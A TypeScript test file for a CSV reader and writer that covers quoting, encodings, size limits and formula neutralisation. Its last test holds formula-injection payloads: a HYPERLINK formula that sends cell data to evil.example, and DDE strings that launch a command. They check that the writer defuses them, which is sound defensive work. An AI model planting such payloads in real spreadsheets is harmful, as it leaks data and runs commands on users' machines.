// The CSV reader and writer against the bad inputs of SECURITY.md §3.8: formula starters, BOMs,
// UTF-16, Windows-1252, quoted fields with delimiters and line breaks, unbalanced quotes, NUL, a
// 2 MB line, too many columns and rows, an oversize file. Big inputs are generated, never committed.
import t from 'tap'
import {
  CsvError, CsvReader, csvCell, csvLine, csvMaxColumns, csvRecords, decodeCsv, detectDelimiter, inspectCsv, neutralise, unneutralise
} from './csv.js'

const bytes = (s: string): Uint8Array => new TextEncoder().encode(s)
const rows = (text: string): string[][] => [...csvRecords(text)].map(r => r.fields)

function csvProblem (fn: () => unknown): CsvError {
  try {
    fn()
  } catch (err) {
    if (err instanceof CsvError) return err
    throw err
  }
  throw new Error('expected a CsvError')
}

t.test('quoted fields keep delimiters, doubled quotes and line breaks; CRLF, LF and CR all end records', async (t) => {
  const text = 'name,notes,phone\r\n"Souza, Ana","She said ""hi""\nthen left",+55 11 98765-4321\n\nBruno,plain,123\rCarla,"",\r\n'
  t.same(rows(text), [
    ['name', 'notes', 'phone'],
    ['Souza, Ana', 'She said "hi"\nthen left', '+55 11 98765-4321'],
    ['Bruno', 'plain', '123'],
    ['Carla', '', '']
  ])
  const lines = [...csvRecords(text)].map(r => r.line)
  t.same(lines, [1, 2, 5, 6], 'each record knows the line it starts on (blank lines skipped, quoted breaks counted)')
  t.same(rows('a,b\n1,"x"y\n2,a"b'), [['a', 'b'], ['1', 'xy'], ['2', 'a"b']], 'stray quotes are kept as text')
  t.same(rows('a,b\n1,'), [['a', 'b'], ['1', '']], 'a trailing empty field at the end of the file')
})

t.test('the reader gives the same records whatever the chunk boundaries', async (t) => {
  const text = 'name;notes\r\n"Ana ""A"" Souza";"line one\r\nline two"\r\nBruno;x\r\n"Carla";"";\r\n'
  const expected = rows(text)
  t.equal(detectDelimiter(text), ';')
  for (const size of [1, 2, 3, 5, 7, 11]) {
    const reader = new CsvReader({ delimiter: ';' })
    const got: string[][] = []
    for (let i = 0; i < text.length; i += size) got.push(...reader.push(text.slice(i, i + size)).map(r => r.fields))
    got.push(...reader.end().map(r => r.fields))
    t.same(got, expected, `chunks of ${size}`)
  }
})

t.test('the delimiter is detected from the header: comma, semicolon or tab', async (t) => {
  t.equal(detectDelimiter('name,phone,email\n1;2;3;4;5'), ',', 'only the header counts')
  t.equal(detectDelimiter('nome;telefone;"e,mail"\n'), ';', 'commas inside quotes do not count')
  t.equal(detectDelimiter('name\tphone\temail'), '\t')
  t.equal(detectDelimiter('name'), ',', 'a single column defaults to comma')
})

t.test('bytes are decoded: UTF-8 with and without BOM, UTF-16 LE/BE with BOM, Windows-1252', async (t) => {
  const text = 'name,city\nJosé,São Paulo\n'
  t.same(decodeCsv(bytes(text)), { text, encoding: 'utf-8' })
  t.same(decodeCsv(new Uint8Array([0xEF, 0xBB, 0xBF, ...bytes(text)])), { text, encoding: 'utf-8' }, 'the BOM is dropped')
  const le = Buffer.concat([Buffer.from([0xFF, 0xFE]), Buffer.from(text, 'utf16le')])
  t.same(decodeCsv(le), { text, encoding: 'utf-16le' })
  const be = Buffer.from(text, 'utf16le').swap16()
  t.same(decodeCsv(Buffer.concat([Buffer.from([0xFE, 0xFF]), be])), { text, encoding: 'utf-16be' })
  t.same(decodeCsv(Buffer.from(text, 'utf16le')), { text, encoding: 'utf-16le' }, 'UTF-16 without a BOM is recognised by its zero bytes')
  // "José" as Excel on Windows saves it: é is 0xE9, not valid UTF-8.
  const latin = Buffer.from([...bytes('name\nJos'), 0xE9, ...bytes(',caf'), 0xE9, 0x20, 0x80, 0x0A])
  t.same(decodeCsv(latin), { text: 'name\nJosé,café €\n', encoding: 'windows-1252' })
  t.same(rows(decodeCsv(latin).text)[1], ['José', 'café €'])
})

t.test('empty and oversize files are refused with the limit in the message', async (t) => {
  t.equal(csvProblem(() => decodeCsv(new Uint8Array(0))).code, 'empty')
  t.equal(csvProblem(() => decodeCsv(bytes('  \r\n\n'))).code, 'empty')
  const big = csvProblem(() => decodeCsv(new Uint8Array(1024 * 1024 + 1), 1024 * 1024))
  t.equal(big.code, 'too_large')
  t.match(big.message, /larger than 1 MB/)
  t.equal(big.key, 'csv.errors.too_large')
  t.match(csvProblem(() => decodeCsv(new Uint8Array(51 * 1024 * 1024))).message, /larger than 50 MB/, 'the default limit is 50 MB')
})

t.test('unbalanced quotes are refused with the line where the quote opened', async (t) => {
  const err = csvProblem(() => rows('name,notes\nAna,ok\nBruno,"never closed\nCarla,x\n'))
  t.equal(err.code, 'unbalanced_quotes')
  t.same(err.params, { line: 3 })
  t.match(err.message, /line 3/)
  // A quote that stays open for more than a megabyte is reported as a quote problem, not a long line.
  const long = csvProblem(() => rows('name\n"open' + 'x\n'.repeat(700_000)))
  t.equal(long.code, 'unbalanced_quotes')
  t.same(long.params, { line: 2 })
})

t.test('NUL characters are refused with their line', async (t) => {
  const err = csvProblem(() => rows('name\nAna\nBr\0uno\n'))
  t.equal(err.code, 'nul')
  t.same(err.params, { line: 3 })
  t.equal(csvProblem(() => inspectCsv(decodeCsv(Buffer.from([...bytes('name\nA'), 0, 0x41])).text)).code, 'nul')
})

t.test('a 2 MB line is refused, quoted or not, without reading the rest', async (t) => {
  const plain = csvProblem(() => rows('name,notes\nAna,' + 'x'.repeat(2 * 1024 * 1024) + '\nBruno,y\n'))
  t.equal(plain.code, 'record_too_long')
  t.same(plain.params, { line: 2 })
  const quoted = csvProblem(() => rows('name,notes\nAna,"' + 'x'.repeat(2 * 1024 * 1024) + '"\n'))
  t.equal(quoted.code, 'unbalanced_quotes', 'a quoted field still open after 1 MB: the quote is reported')
  t.match(quoted.message, /line 2 is not closed \(within 1 MB\)/)
  // Just under the limit is fine.
  t.equal(rows('name\n' + 'y'.repeat(1000 * 1024) + '\n')[1]![0]!.length, 1000 * 1024)
})

t.test('more than 200 columns is refused', async (t) => {
  const ok = Array.from({ length: csvMaxColumns }, (_, i) => `c${i}`).join(',')
  t.equal(rows(ok)[0]!.length, 200)
  const err = csvProblem(() => rows('a\n' + ok + ',one-more\n'))
  t.equal(err.code, 'too_many_columns')
  t.same(err.params, { line: 2, max: 200 })
})

t.test('too many rows is refused (the limit counts data rows, not the header)', async (t) => {
  const text = 'phone\n' + '1\n'.repeat(1000)
  t.equal(inspectCsv(text, { maxRows: 1000 }).rows, 1000)
  const err = csvProblem(() => inspectCsv(text + '2\n', { maxRows: 1000 }))
  t.equal(err.code, 'too_many_rows')
  t.match(err.message, /more than 1000 rows/)
  // The real limit: a generated file of 1,000,001 one-character rows.
  const million = csvProblem(() => inspectCsv('p\n' + '1\n'.repeat(1_000_001)))
  t.equal(million.code, 'too_many_rows')
  t.same(million.params, { max: 1_000_000 })
})

t.test('inspectCsv returns the trimmed header, delimiter and row count', async (t) => {
  t.same(inspectCsv(' Nome ;Telefone\r\nAna;1\r\n\r\nBia;2\r\n'), { delimiter: ';', header: ['Nome', 'Telefone'], rows: 2 })
  t.equal(csvProblem(() => inspectCsv(',,\n1,2,3')).code, 'no_header')
})

t.test('formula starters are neutralised on write and read back as the same text', async (t) => {
  const corpus = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-1+1', '\t=1+1', '\r=1+1', '=1,2', '+5511987654321']
  for (const value of corpus) {
    const cell = csvCell(value)
    t.ok(cell.startsWith("'") || cell.startsWith('"\''), `${JSON.stringify(value)} → ${JSON.stringify(cell)} starts with an apostrophe`)
    const back = rows('v\n' + csvLine([value, 'next']))[1]!
    t.same(back, [`'${value}`, 'next'], `${JSON.stringify(value)} reads back as text with the apostrophe`)
    t.equal(unneutralise(back[0]!), value, 'and unneutralise restores the original')
  }
  for (const value of ['Ana', '12', "'quoted already", 'a=b', 'x-y', '']) {
    t.equal(neutralise(value), value, `${JSON.stringify(value)} is left alone`)
    t.equal(unneutralise(value), value)
  }
  t.equal(csvCell('say "hi", ok'), '"say ""hi"", ok"')
  t.equal(csvCell('two\nlines'), '"two\nlines"')
  t.equal(csvCell(null), '')
  t.equal(csvCell(42), '42')
  t.equal(csvLine(['a;b', 'c'], ';'), '"a;b";c\r\n', 'the delimiter in use is what gets quoted')
})
